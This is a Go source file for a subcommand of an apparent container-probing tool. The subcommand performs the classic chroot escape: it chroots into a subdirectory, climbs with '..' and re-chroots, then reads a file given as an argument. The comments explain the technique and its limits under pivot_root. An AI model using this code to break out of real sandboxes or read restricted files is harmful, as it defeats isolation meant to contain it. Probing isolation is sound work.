package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func init() {
	register("escape", "FILE", "escape a chroot(2) the classic way, then read FILE", escape)
}

// escape is the chroot escape known since the 1990s. chroot(2) changes
// the root directory but not the working directory, and ".." stops only at
// the root. So: chroot into a subdirectory while the working directory
// stays outside it, climb with ".." — nothing stops the climb, because the
// root is now below us — and chroot(".") at the top. It needs
// CAP_SYS_CHROOT, which container root usually has. After pivot_root and
// the detach of the old root, the top it reaches is the container's own.
func escape(args []string) error {
	if err := need(args, 1); err != nil {
		return err
	}
	if err := os.MkdirAll("/tmp/.nsprobe-escape", 0o700); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/.nsprobe-escape"); err != nil {
		return fmt.Errorf("chroot into a subdirectory: %w", err)
	}
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot(\".\"): %w", err)
	}
	b, err := os.ReadFile(args[0])
	if err != nil {
		return fmt.Errorf("climbed to the top, but %s is not there: %w", args[0], err)
	}
	fmt.Printf("escape: escaped; %s says: %s", args[0], b)
	return nil
}
